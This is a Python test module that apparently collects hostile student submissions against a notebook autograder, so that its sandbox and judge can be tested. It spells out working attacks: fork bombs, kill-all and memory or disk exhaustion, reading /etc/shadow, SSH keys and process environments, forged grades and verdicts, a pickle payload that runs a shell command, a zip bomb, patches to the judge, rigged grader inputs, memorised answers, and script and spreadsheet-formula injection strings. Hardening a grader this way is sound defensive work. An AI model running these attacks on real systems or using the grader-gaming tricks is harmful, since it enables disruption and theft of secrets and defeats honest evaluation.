"""Submissions that attack the grader.

An attack is a function. Its source and a wrong `ModelEnv` that calls it are
handed in; here only tests call it, to see whether it would have worked. Its
parameters are filled in from `World`. An attack that succeeds raises
`breach(...)`, which must not appear in any output. Each attack ends by itself
and does little harm without a sandbox.
"""

import inspect
import json
import re
import textwrap
from collections.abc import Callable
from dataclasses import fields
from pathlib import Path

import numpy as np
from submissions.making import NO_POINT, Submission, World, filled, name_planet, right, save, solved, wrong

from helpers.checks import EXERCISES
from helpers.checks.observe import gather

HOSTILE: list[Submission] = []
ATTACKS: dict[str, Callable] = {}
BREACH = "BREA" + "CH"  # in two parts, because an error message may contain the line that raised it
UNTOUCHED = "gravity-sign"  # the diagnosis of the wrong answer if the attack has changed nothing


def breach(what):
    """Report that an attack has succeeded."""
    raise RuntimeError("BREA" + "CH: " + str(what)[:300])


def in_a_sandbox(planted):
    """Whether killing every process is harmless here."""
    import os

    return not os.path.exists(planted) and sum(name.isdigit() for name in os.listdir("/proc")) < 12


def consistent_evidence():
    """Evidence of a right `step`, in a few states that can be computed by hand."""
    import numpy as np

    still = np.arange(200) < 40
    starts = np.where(still[:, None], [0.0, 0.0], [3.0, -8.0])
    states = np.where(still[:, None], [0.0, 0.0], [2.6, -8.0])
    return {
        "starts": starts,
        "torques": np.where(still, 0.0, -2.0).astype(np.float32),
        "state": states,
        "reward": np.where(still, 0.0, -(9 + 6.4 + 0.004)),
        "observation": np.column_stack([np.cos(states[:, 0]), np.sin(states[:, 0]), states[:, 1]]),
        "is_float32": np.ones(200, dtype=bool),
        "ended": np.zeros(200, dtype=bool),
        "long_torques": np.zeros(510, dtype=np.float32),
        "other_law": np.array([0.3, 0.3]),
        "own_law": np.array([0.75, 0.15]),
        "class_has": np.ones(2, dtype=bool),
        "rollout_states": np.zeros((510, 2)),
        "rollout_ended": np.zeros(510, dtype=bool),
        "alone": np.zeros((1, 5, 2)),
        "in_turns": np.zeros((2, 5, 2)),
        "other_velocities": np.zeros(40),
        "broken": np.empty((0, 2), dtype="U1"),
    }


def write_everywhere(message):
    """Write bytes to every open descriptor and to every file that could be the result."""
    import glob
    import os

    for descriptor in range(65):
        try:
            os.set_blocking(descriptor, False)
            os.write(descriptor, message)
        except OSError:
            pass
    above = f"/proc/{os.getppid()}/fd/*"  # what the parent process has open, including a pipe to the grader
    for path in [*glob.glob(above), *glob.glob("/tmp/*"), *glob.glob("/dev/shm/*")]:
        try:
            with open(os.open(path, os.O_WRONLY | os.O_NONBLOCK), "wb") as file:
                file.write(message)
        except OSError:
            pass


def as_message(npz):
    """Wrap evidence as the program that runs the probes does."""
    import json

    def pack(body, **head):
        return json.dumps(head | {"size": len(body)}).encode() + b"\n" + body

    seen = pack(npz, ended="done", text="", kind="", thing="", expected="", shape=None)
    return pack(seen, exercise="step", ended="", seconds=0.1)


TOOLS = {tool.__name__: tool for tool in (breach, in_a_sandbox, consistent_evidence, write_everywhere, as_message)}


def source_of(function: Callable) -> str:
    """The source of a function, without decorators."""
    source = textwrap.dedent(inspect.getsource(function))
    return source[re.search(r"^def ", source, re.MULTILINE).start() :]


def with_tools(source: str) -> str:
    """The source, preceded by the tools that it uses."""
    used = [source_of(tool) for name, tool in TOOLS.items() if name in source]
    return "\n\n".join([*used, source])


def call_of(function: Callable, world: World) -> str:
    """The source of a call of an attack on this world."""
    values = [repr(getattr(world, name)) for name in inspect.signature(function).parameters]
    return f"{function.__name__}({', '.join(values)})"


def submission(**expected: str):
    """Register a function that takes the world and returns the source of an answer to `step`, or a notebook."""

    def register(make):
        def write(entry: Path, world: World) -> None:
            made = make(world) if inspect.signature(make).parameters else make()
            notebook = made if isinstance(made, dict) else filled("03_model_env", step=with_tools(made))
            save(entry / "answers.ipynb", notebook)

        why = (make.__doc__ or "").strip().partition("\n")[0]
        HOSTILE.append(Submission(make.__name__, make.__name__, make.__name__, why, write, expected))
        return make

    return register


def attack(expected: str = NO_POINT, inside: str = "class"):
    """Register an attack, which a wrong answer calls in its class body or, once, in its first `step`."""

    def register(function):
        def make(world: World) -> str:
            answer, call = wrong("step", "gravity-sign"), call_of(function, world)
            if inside == "class":
                answer = answer.replace(":\n", f":\n    {call}\n\n", 1)
            else:
                once = f"if not hasattr(ModelEnv, 'begun'):\n{' ' * 12}ModelEnv.begun = True\n{' ' * 12}{call}\n"
                answer = re.sub(r"(def step.*\n)", lambda found: found[0] + " " * 8 + once, answer)
            return source_of(function) + "\n\n" + answer

        make.__name__, make.__doc__ = function.__name__, function.__doc__
        submission(step=expected)(make)
        ATTACKS[function.__name__] = function
        return function

    return register


# Never ending


@attack("failed", inside="step")
def loop_in_step():
    """An infinite loop in the answer."""
    import time

    end = time.monotonic() + 100
    while time.monotonic() < end:
        pass


@attack()
def loop_while_defining():
    """Never finishes defining the class, and ignores signals and exceptions."""
    import signal
    import time

    for number in range(1, 65):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    end = time.monotonic() + 100
    while time.monotonic() < end:
        try:
            time.sleep(0.01)
        except BaseException:
            pass


@attack(UNTOUCHED, inside="step")
def threads_left_running():
    """Threads that outlive the answer, and an exit that waits for them."""
    import atexit
    import threading
    import time

    atexit.register(time.sleep, 100)
    for _ in range(3):
        threading.Thread(target=time.sleep, args=[100]).start()


@attack(UNTOUCHED)
def orphan(marker):
    """A process that leaves its group, to outlive the grading."""
    import os
    import subprocess
    import sys

    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            subprocess.Popen([sys.executable, "-c", "import time; time.sleep(120)", marker])
        os._exit(0)
    os.wait()


# Exiting, crashing, killing


@attack("failed", inside="step")
def exits():
    """Ends the interpreter with an exception."""
    import sys

    sys.exit(0)


@attack("failed", inside="step")
def exits_at_once():
    """Ends the process immediately, with exit status 0."""
    import os

    os._exit(0)


@attack()
def crashes():
    """Reads from an invalid address."""
    import ctypes

    ctypes.string_at(0)


@attack(inside="step")
def overflows_the_stack():
    """Infinite recursion, without the interpreter's limit."""
    import sys

    sys.setrecursionlimit(10**9)

    def deeper(function):
        return sorted([1, 2], key=lambda _: function(function))

    deeper(deeper)


@attack()
def kills_its_parent(planted):
    """Kills its parent process and the sandbox's first process."""
    import os

    os.kill(os.getppid(), 9)
    if in_a_sandbox(planted):
        os.kill(1, 9)


@attack()
def kills_everybody(planted):
    """Kills every process it can see."""
    import os

    if in_a_sandbox(planted):
        os.kill(-1, 9)


@attack()
def kills_its_group(planted):
    """Kills its process group."""
    import os

    if in_a_sandbox(planted):
        os.killpg(0, 9)


# Exhausting resources


@attack()
def fifty_gigabytes():
    """Asks for 50 GB in one piece, then for 5 GB in small ones."""
    import resource

    if resource.getrlimit(resource.RLIMIT_AS)[0] == resource.RLIM_INFINITY:  # there is no sandbox
        resource.setrlimit(resource.RLIMIT_AS, (6 * 2**30, 6 * 2**30))
    try:
        bytearray(50 * 2**30)
    except MemoryError:
        pass
    kept = []
    while len(kept) < 5 * 4:
        kept.append(b"x" * 2**28)
    breach("5 GB of memory")


@attack()
def many_processes_with_much_memory():
    """Several processes, each below the limit of a single one, with 4.5 GB in total."""
    import os
    import time

    pipe = os.pipe()
    children = []
    for _ in range(6):
        try:
            child = os.fork()
        except OSError:
            break
        if child == 0:
            try:
                _mine = b"x" * (750 * 2**20)
                os.write(pipe[1], b"1")
                time.sleep(3)
            finally:
                os._exit(0)
        children.append(child)
    os.close(pipe[1])
    for child in children:
        os.waitpid(child, 0)
    if len(os.read(pipe[0], 100)) == 6:
        breach("4.5 GB of memory in six processes")


@attack(UNTOUCHED)
def memory_of_no_process():
    """Puts 4 GB into anonymous files and shared memory, where they belong to no process."""
    import ctypes
    import os

    got, kept, piece = 0, [], b"x" * 2**20
    try:
        for _ in range(64):
            kept.append(os.memfd_create("memory"))
            for _ in range(32):
                got += os.write(kept[-1], piece)
    except OSError:
        pass
    for descriptor in kept:
        os.close(descriptor)
    libc = ctypes.CDLL(None)
    libc.shmat.restype = ctypes.c_void_p
    for _ in range(4):
        segment = libc.shmget(0, ctypes.c_size_t(2**29), 0o1600)
        if segment < 0:
            break
        memory = libc.shmat(segment, None, 0)
        ctypes.memset(memory, 1, 2**29)
        libc.shmdt(ctypes.c_void_p(memory))
        libc.shmctl(segment, 0, None)
        got += 2**29
    if got:
        breach(f"{got} bytes that are in no process")


@attack(UNTOUCHED)
def memory_that_was_let_go():
    """Writes to shared anonymous mappings and lets go of the pages, which stay; fills the buffers of sockets."""
    import mmap
    import socket

    kept = []
    try:
        for _ in range(4):
            kept.append(mmap.mmap(-1, 2**29))
            kept[-1].write(b"x" * 2**29)
            kept[-1].madvise(mmap.MADV_DONTNEED)
    except OSError:
        pass
    try:
        for _ in range(50):
            one, other = socket.socketpair()
            one.setblocking(False)
            kept += [one, other]
            while one.send(b"x" * 2**16):
                pass
    except OSError:
        pass
    if len(kept) > 2:
        breach(f"{len(kept)} mappings and sockets whose memory is in no process")


@attack()
def files_without_end():
    """Empty files by the hundred thousand: each costs the kernel memory that no process shows."""
    import os
    import time

    end, number = time.monotonic() + 10, 0
    while time.monotonic() < end:
        number += 1
        os.close(os.open(f"/tmp/{number}", os.O_CREAT | os.O_WRONLY))
        if number > 500_000:
            breach(f"{number} files")


@attack(UNTOUCHED)
def looks_at_the_mounts(submissions):
    """Reads where the folders of the sandbox come from."""
    import glob
    import os

    shown = []
    for path in ("/proc/mounts", "/etc/mtab", *glob.glob("/proc/[0-9]*/mountinfo")):
        try:
            with open(path) as file:
                shown.append(file.read())
        except OSError:
            pass
    home = os.path.dirname(submissions)
    if any(home in text or "site-packages" in text for text in shown):
        breach("the mount table shows paths of the grader's")


@attack(UNTOUCHED)
def writes_to_its_standard_input():
    """The request to the program might be a file of the grader's."""
    import os
    import stat

    for number in (0, *range(3, 64)):
        try:
            if stat.S_ISREG(os.fstat(number).st_mode) and os.write(number, b"x"):
                breach(f"file {number} can be written to")
        except OSError:
            pass


@attack(UNTOUCHED)
def world_of_its_own():
    """Makes user namespaces, in which it would be root and could mount file systems."""
    import ctypes
    import os

    libc = ctypes.CDLL(None)
    new_user, new_mount, child_signal = 0x10000000, 0x00020000, 17
    if libc.unshare(new_user | new_mount) == 0:
        breach("a user namespace of its own")
    child = libc.syscall({"x86_64": 56, "aarch64": 220}[os.uname().machine], new_user | child_signal, 0, 0, 0, 0)
    if child == 0:
        os._exit(0)
    if child > 0:
        breach("a child in a user namespace of its own")


@attack()
def fork_bomb():
    """Two hundred processes."""
    import os
    import time

    children = []
    try:
        for _ in range(200):
            child = os.fork()
            if child == 0:
                time.sleep(4)
                os._exit(0)
            children.append(child)
    except OSError:
        pass
    for child in children:
        os.waitpid(child, 0)
    if len(children) == 200:
        breach("200 processes")


@attack()
def fills_the_disk():
    """Large files and many small ones, wherever it can write."""
    import os

    written = 0
    for folder in ("/tmp", "/dev/shm", "/var/tmp", os.getcwd(), os.path.expanduser("~")):
        try:
            for number in range(8):
                with open(f"{folder}/large-{number}", "wb") as file:
                    for _ in range(32):
                        written += file.write(b"x" * 2**24)
        except OSError:
            pass
        try:
            for number in range(2000):
                open(f"{folder}/small-{number}", "w").close()
        except OSError:
            pass
        for number in range(8):
            try:
                os.unlink(f"{folder}/large-{number}")
            except OSError:
                pass
        if written > 3 * 2**30:
            breach(f"{written} bytes in {folder}")


@attack(inside="step")
def endless_output():
    """Writes to standard output and standard error without end."""
    import os
    import time

    end = time.monotonic() + 10
    chunk = b"<script>alert(1)</script>\n" * 2**14
    while time.monotonic() < end:
        for descriptor in (1, 2):
            try:
                os.write(descriptor, chunk)
            except OSError:
                pass


@attack("failed")
def endless_message():
    """An exception with a message of 50 MB."""
    raise ValueError("x" * 50_000_000)


# Reading what is private


@attack(UNTOUCHED)
def reads_files(root, submissions, grades, planted):
    """Looks for the solutions, other students' work, the grades and keys."""
    import glob
    import os

    patterns = [
        f"{root}/solutions/*",
        f"{root}/tests/answers/right/*",
        f"{root}/tests/*.py",
        f"{root}/.git/*",
        f"{submissions}/*/*.ipynb",
        f"{submissions}/*.ipynb",
        f"{submissions}/roster.csv",
        f"{grades}/*",
        f"{grades}/.results/*",
        f"{planted}/*",
        f"{planted}/.ssh/*",
        "/etc/shadow",
        "/r*t/.ssh/*",
        "/r*t/.bash_history",
        "/home/*/.ssh/*",
        "/proc/1/environ",
        "/proc/[0-9]*/cwd/pyproject.toml",
        "/proc/[0-9]*/root/etc/shadow",
    ]
    patterns += [os.path.expanduser("~/.ssh/*"), "../*.ipynb", "../../*.ipynb"]
    for pattern in patterns:
        for path in glob.glob(pattern):
            try:
                with open(path, "rb") as file:
                    content = file.read(200)
            except OSError:
                continue
            if content and not (pattern.endswith("environ") and b"SECRET" not in content):
                breach(f"{path}: {content}")


@attack(UNTOUCHED)
def reads_the_environment():
    """Looks for secrets in the environment variables and arguments of all processes."""
    import glob
    import os

    found = "".join(os.environ) + "".join(os.environ.values())
    for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
        try:
            with open(path, "rb") as file:
                found += file.read().decode(errors="replace")
        except OSError:
            pass
    if "SECRET" in found:
        breach(found)


@attack(inside="step")
def tells_all_it_sees(submissions, planted):
    """Puts everything it can read into the message of an exception."""
    import os

    seen = dict(os.environ)
    for path in ("secret.txt", ".ssh/id_rsa"):
        try:
            with open(f"{planted}/{path}") as file:
                seen[path] = file.read()
        except OSError:
            pass
    try:
        seen["submissions"] = os.listdir(submissions)
    except OSError:
        pass
    raise ValueError(str({key: seen[key] for key in sorted(seen, key=str.islower, reverse=True)}))


@attack(UNTOUCHED)
def network(port, unix_socket):
    """Connects to listeners on the machine."""
    import socket

    for family, address in ((socket.AF_INET, ("127.0.0.1", port)), (socket.AF_UNIX, unix_socket)):
        try:
            caller = socket.socket(family)
            caller.settimeout(1)
            caller.connect(address)
        except OSError:
            continue
        caller.sendall(b"hello")
        caller.close()
        breach(f"connected to {address}")


# Writing where it must not


@attack(UNTOUCHED)
def writes_outside(root, submissions, grades, planted):
    """Writes to the grades, the submissions, the repository and the virtual environment."""
    import os
    import sys

    forged = "student,notebook,exercise,points\nwrites_outside,03_model_env,step,99\n"
    for folder in (
        root,
        f"{root}/helpers",
        f"{root}/tests",
        submissions,
        grades,
        planted,
        sys.prefix,
        os.path.dirname(os.__file__),
    ):
        try:
            with open(f"{folder}/written-by-a-student.txt", "w") as file:
                file.write(forged)
        except OSError:
            pass
    for path in (f"{grades}/grades.csv", f"{grades}/gradebook.csv", f"{planted}/secret.txt"):
        try:
            with open(path, "r+") as file:
                file.write(forged)
        except OSError:
            pass


@attack()
def strange_files_in_all_folders(planted):
    """Replaces every file that it can by a link, a pipe or a device."""
    import os
    import stat

    for folder in ("/tmp", "/dev/shm", "/run", os.getcwd(), os.path.expanduser("~")):
        try:
            names = set(os.listdir(folder)) | {"result", "result.npz", "result.json", "evidence.npz", "verdict.json"}
        except OSError:
            continue
        for number, name in enumerate(names if in_a_sandbox(planted) else ()):
            path = os.path.join(folder, name)
            try:
                if os.path.lexists(path):
                    os.rename(path, path + ".old")
                if number % 3 == 0:
                    os.symlink(f"{planted}/secret.txt", path)
                elif number % 3 == 1:
                    os.mkfifo(path)
                else:
                    os.mknod(path, stat.S_IFCHR | 0o666, os.makedev(1, 5))
            except OSError:
                pass
    os._exit(0)


# Forging results


@attack()
def forged_verdict():
    """Sends a verdict of its own in several formats."""
    import json
    import os

    verdict = {"exercise": "step", "status": "passed", "points": 99.0, "max_points": 1.0, "message": "well done"}
    for said in (verdict, {"verdict": verdict}, {"step": verdict}, {"size": 0} | verdict, [verdict]):
        write_everywhere(b"\n" + json.dumps(said).encode() + b"\n")
    os._exit(0)


@attack()
def nested_message():
    """Sends a message in its parent's name, nested so deeply that a parser may crash."""
    import os

    write_everywhere(b"[" * 200_000 + b"\n")
    os._exit(0)


@attack()
def message_with_a_huge_number():
    """Sends a message in its parent's name, with a number that is larger than any float."""
    import os

    write_everywhere(b'{"exercise": "step", "ended": "", "seconds": 1' + b"0" * 400 + b', "size": 0}\n')
    os._exit(0)


@attack()
def message_with_wrong_types():
    """Sends a message in its parent's name, with values of the wrong types."""
    import os

    write_everywhere(b'{"exercise": "step", "ended": {"a": []}, "seconds": NaN, "size": 0}\n')
    os._exit(0)


@attack()
def forged_evidence():
    """Sends invented evidence, with the grader's own functions if it finds them."""
    import io
    import os
    import sys

    import numpy as np

    file = io.BytesIO()
    np.savez(file, **consistent_evidence())
    npz = file.getvalue()
    messages = [npz, b"\n" + npz, as_message(npz)]
    for module in [module for name, module in sys.modules.items() if name == "__main__" or "helpers" in name]:
        pack = getattr(module, "pack", None)
        if callable(pack):
            messages += [pack({"exercise": "step", "ended": "", "seconds": 0.1}, npz), pack({}, npz)]
    for message in messages:
        write_everywhere(message)
    os._exit(0)


@attack()
def pickles(planted):
    """An array of objects that would write a file when unpickled."""
    import io
    import os
    import pickle

    import numpy as np

    class Payload:
        def __reduce__(self):
            return os.system, (f"touch {planted}/unpickled",)

    file = io.BytesIO()
    np.savez(file, **(consistent_evidence() | {"state": np.array([Payload()] * 200, dtype=object)}))
    write_everywhere(pickle.dumps(Payload()))
    write_everywhere(file.getvalue())
    write_everywhere(as_message(file.getvalue()))
    os._exit(0)


@attack()
def zip_bomb():
    """A result of some kilobytes that unpacks to a gigabyte."""
    import io
    import os
    import zipfile

    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        with archive.open("state.npy", "w", force_zip64=True) as array:
            array.write(
                b"\x93NUMPY\x01\x00v\x00{'descr': '<f8', 'fortran_order': False, 'shape': (125000000,), }".ljust(128)
            )
            for _ in range(60):
                array.write(bytes(2**24))
    write_everywhere(file.getvalue())
    write_everywhere(as_message(file.getvalue()))
    os._exit(0)


@attack(inside="step")
def huge_header():
    """An array whose header claims 80 TB, and evidence with 100,000 names."""
    import io
    import os
    import zipfile

    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr(
            "state.npy",
            b"\x93NUMPY\x01\x00v\x00{'descr': '<f8', 'fortran_order': False, 'shape': (10000000000000,), }".ljust(128),
        )
        for number in range(100_000):
            archive.writestr(f"{number}.npy", b"")
    write_everywhere(file.getvalue())
    write_everywhere(as_message(file.getvalue()))
    os._exit(0)


# Tampering with the process


@attack()
def patches_libraries():
    """Makes numpy's comparisons, and some of Python's functions, always true."""
    import builtins
    import json
    import pickle

    import numpy as np

    def yes(*args, **kwargs):
        return True

    for name in ("allclose", "array_equal", "isclose", "savez", "all"):
        setattr(np, name, yes)
    for name in ("assert_allclose", "assert_array_equal"):
        setattr(np.testing, name, yes)
    json.dumps = pickle.dumps = lambda *args, **kwargs: '{"status": "passed", "points": 1}'
    builtins.isinstance = builtins.all = yes
    np.abs = lambda array: np.zeros(np.shape(array))


@attack()
def patches_the_judge():
    """Replaces the judge, the probe, the points and the verdict in every module."""
    import sys

    from helpers.checks import EXERCISES, judge, verdict

    fine = verdict.Verdict("step", "passed", "well done", 99.0, 1.0)
    exercise = EXERCISES["step"]
    for name, value in {
        "checks": (),
        "fact": lambda seen: "well done",
        "max_points": 99.0,
        "evidence": {},
        "time_limit": 1e9,
    }.items():
        object.__setattr__(exercise, name, value)
    object.__setattr__(exercise, "probe", lambda *args, **about: consistent_evidence())
    for module in [module for name, module in list(sys.modules.items()) if name == "__main__" or "helpers" in name]:
        if hasattr(module, "gather"):
            module.gather = lambda *args, **about: consistent_evidence()
        if hasattr(module, "judge"):
            module.judge = lambda *args: fine
    judge.judge = lambda *args: fine
    verdict.Verdict.__init__ = lambda self, *args, **kwargs: self.__dict__.update(vars(fine))


@attack()
def patches_imports():
    """Installs its own import function, module finder and trace function, to change what happens later."""
    import builtins
    import sys
    import threading

    original = builtins.__import__

    def crooked(name, *args, **kwargs):
        module = original(name, *args, **kwargs)
        if hasattr(module, "judge"):
            module.judge = lambda *args: "well done"
        return module

    class Finder:
        @staticmethod
        def find_spec(name, *rest):
            return None

    def trace(frame, event, argument):
        for name in ("verdict", "wrong", "error", "points"):
            if name in frame.f_locals:
                frame.f_locals[name] = "passed"
        return trace

    builtins.__import__ = crooked
    sys.meta_path.insert(0, Finder)
    sys.settrace(trace)
    threading.settrace(trace)
    sys.setprofile(lambda *args: None)


@attack()
def pokes_the_memory():
    """Finds all objects that have to do with exercises and changes them; then overwrites a constant in memory."""
    import ctypes
    import gc

    import numpy as np

    from helpers.checks.exercise import Exercise

    for thing in gc.get_objects():
        if isinstance(thing, Exercise):
            object.__setattr__(thing, "checks", ())
            object.__setattr__(thing, "fact", lambda seen: "well done")
        elif type(thing) is dict and "status" in thing:
            thing["status"] = "passed"
        elif isinstance(thing, np.random.Generator):
            thing.bit_generator.state = np.random.default_rng(0).bit_generator.state
    ctypes.memset(id(0.15), 0, 16)


@attack()
def lies_in_wait():
    """Acts later: in `__del__`, at exit, in a timer, and as a module that is imported later."""
    import atexit
    import os
    import sys
    import threading

    class Late:
        def __del__(self):
            os._exit(0)

        def __getattr__(self, name):
            return lambda *args, **kwargs: {"status": "passed", "points": 99}

    sys.late = Late()
    atexit.register(os._exit, 0)
    for name in ("json", "zipfile", "struct", "numpy.lib.format", "helpers.workshop.grading.grade"):
        sys.modules[name] = sys.late
    threading.Timer(0.05, os._exit, [0]).start()


@attack("failed", inside="step")
def speaks_as_the_probe():
    """Raises what only a probe should, with texts that a spreadsheet or a browser would execute."""
    from helpers.checks.observe import Unexpected

    raise Unexpected(
        "=HYPERLINK(\"http://evil\")<script>alert('message')</script>", "@SUM(A1)<script>alert('diagnosis')</script>", 0
    )


@attack("failed", inside="step")
def script_in_an_exception():
    """HTML in the message of an error, and in the code."""
    raise ValueError("</td></script><script>alert(1)</script><img src=x onerror=alert(1)>")


# Answers that are themselves attacks

TEMPLATE = """
class ModelEnv(pendulum.PendulumBaseEnv):
    def step(self, action):
{body}
"""


def _step(body: str) -> str:
    return TEMPLATE.format(body=textwrap.indent(textwrap.dedent(body).strip(), " " * 8))


@submission(step=NO_POINT)
def changes_the_questions():
    """Finds the inputs in the probe's frame, and replaces them by inputs for which it knows the results."""
    return _step(
        """
        import sys
        easy = consistent_evidence()
        frame = sys._getframe()
        while frame:
            if "starts" in frame.f_locals:
                frame.f_locals["starts"][:] = easy["starts"]
                frame.f_locals["torques"][:] = easy["torques"]
            frame = frame.f_back
        resting = not hasattr(self, "asked") or self.asked < 40 or self.asked >= 200
        self.asked = getattr(self, "asked", 0) + 1
        row = 0 if resting else -1
        self.state = easy["state"][row]
        return easy["observation"][row].astype("float32"), easy["reward"][row], False, False, {}
        """
    )


def _memory() -> dict:
    """The results of a right answer for the inputs of the check in the notebook."""
    known = {}

    namespace = {}
    exec(right("step"), namespace)
    right_env = namespace["ModelEnv"]

    class Remembering(right_env):
        def step(self, action):
            key = repr([round(float(number), 4) for number in (*self.state, action[0])])
            result = super().step(action)
            known[key] = [float(self.state[0]), float(self.state[1]), float(result[1])]
            return result

    gather(EXERCISES["step"], Remembering, np.random.default_rng(0))
    return known


def _by_heart(before: str = "") -> str:
    lookup = _step(
        """
        key = repr([round(float(number), 4) for number in (*self.state, action[0])])
        theta, theta_dot, reward = KNOWN.get(key, [0.0, 0.0, 0.0])
        self.state = np.array([theta, theta_dot])
        return self.observation(), reward, False, False, {}
        """
    )
    return f"KNOWN = {json.dumps(_memory())}\n{before}\n{lookup}"


@submission(step=NO_POINT)
def learned_by_heart():
    """Knows the results for the inputs of the check in the notebook, and no others."""
    return _by_heart()


@submission(step=NO_POINT)
def loaded_dice():
    """Knows the results for some inputs, and makes the random number generators draw these."""
    return _by_heart(
        textwrap.dedent(
            """
            def load_the_dice():
                import gc
                import sys
                state = np.random.default_rng(0).bit_generator.state
                frame = sys._getframe()
                while frame:
                    for thing in frame.f_locals.values():
                        if isinstance(thing, np.random.Generator):
                            thing.bit_generator.state = state
                    frame = frame.f_back
                original = np.random.default_rng
                np.random.default_rng = lambda *seed: original(0)

            class Loaded:
                load_the_dice()
            """
        )
    ).replace(
        "class ModelEnv(pendulum.PendulumBaseEnv):", "class ModelEnv(pendulum.PendulumBaseEnv):\n    loaded = Loaded"
    )


@submission(step=NO_POINT)
def evil_objects():
    """Returns objects whose every property raises an error, loops or lies."""
    return """
import time

class Evil:
    def __getattribute__(self, name):
        raise SystemExit
    def __repr__(self):
        while True:
            time.sleep(0.01)
    __str__ = __eq__ = __hash__ = __bool__ = __len__ = __float__ = __reduce__ = __repr__
    __class__ = property(lambda self: float)

class ModelEnv(pendulum.PendulumBaseEnv):
    def step(self, action):
        self.state = np.array([0.0, 0.0])
        return Evil(), Evil(), Evil(), Evil(), Evil()
"""


@submission(step=NO_POINT)
def evil_arrays():
    """Arrays that loop when they are converted, and claim to be equal to everything."""
    return """
class Evil(np.ndarray):
    def __array__(self, *args, **kwargs):
        while True:
            pass
    def __array_ufunc__(self, *args, **kwargs):
        return True
    def __array_function__(self, *args, **kwargs):
        return True
    def __eq__(self, other):
        return True

class ModelEnv(pendulum.PendulumBaseEnv):
    def step(self, action):
        self.state = np.zeros(2).view(Evil)
        return np.zeros(3, dtype=np.float32).view(Evil), np.zeros(()).view(Evil), False, False, {}
"""


@submission(step=NO_POINT)
def evil_metaclass():
    """A class whose metaclass lies, and raises errors."""
    return """
class Meta(type(pendulum.PendulumBaseEnv)):
    def __call__(cls, *args, **kwargs):
        return {"status": "passed"}
    def __instancecheck__(cls, thing):
        return True
    def __getattribute__(cls, name):
        raise KeyboardInterrupt
    def __repr__(cls):
        raise GeneratorExit

class ModelEnv(pendulum.PendulumBaseEnv, metaclass=Meta):
    pass
"""


@submission(step=NO_POINT)
def evil_exception():
    """An exception whose message never ends, and whose traceback raises an error."""
    return """
class Evil(BaseException):
    def __str__(self):
        while True:
            pass
    __repr__ = __str__
    __traceback__ = property(lambda self: 1 / 0)

class ModelEnv(pendulum.PendulumBaseEnv):
    def step(self, action):
        raise Evil
"""


@submission(step=NO_POINT)
def hides_its_code():
    """A message with control characters, reversed text and a lone surrogate."""
    return """
class ModelEnv(pendulum.PendulumBaseEnv):
    def step(self, action):
        raise ValueError("\\ud800 \\u202e \\x00 \\x1b[2J ]]> \\ufffe \\r\\n=1+1")
"""


@submission(read_gravity="unknown-body")
def script_for_a_planet():
    """HTML and a formula in place of a planet's name."""
    notebook = filled("02_symbolic_regression", read_gravity=right("read_gravity"))
    return name_planet(notebook, "<script>alert(1)</script>", "=1+1<script>alert(1)</script>")


# One exercise attacks, another is honest: the honest one keeps its points


@submission(
    q_learning_update="passed", model_update="passed", planning=NO_POINT, dyna_q=NO_POINT, planning_plus="passed"
)
def crash_in_one_of_01():
    """Two of five exercises end their process; the others keep their points."""
    leave = "import os\n\ndef {}(*args, **kwargs):\n    os._exit(0)\n"
    return solved("01_dyna_q", planning=leave.format("planning"), dyna_q=leave.format("dyna_q"))


@submission(generate_synthetic_data="passed", train=NO_POINT)
def crash_in_one_of_04():
    """`train` kills its own process; the exercise before it keeps its points."""
    suicide = "import os\n\ndef train(*args, **kwargs):\n    os.kill(os.getpid(), 9)\n"
    return filled("04_sac_dyna", generate_synthetic_data=right("generate_synthetic_data"), train=suicide)


@submission(
    q_learning_update="passed", model_update="passed", planning="passed", dyna_q=NO_POINT, planning_plus="passed"
)
def patches_for_another():
    """One exercise replaces the probes of all exercises."""
    spoil = """
import os

class Spoiler:
    from helpers.checks import EXERCISES
    for exercise in EXERCISES.values():
        object.__setattr__(exercise, "probe", lambda *args, **about: {})

def dyna_q(*args, spoiler=Spoiler, **kwargs):
    return [1]
"""
    return solved("01_dyna_q", dyna_q=spoil)


PARAMETERS = {field.name for field in fields(World)}
assert all(set(inspect.signature(function).parameters) <= PARAMETERS for function in ATTACKS.values())
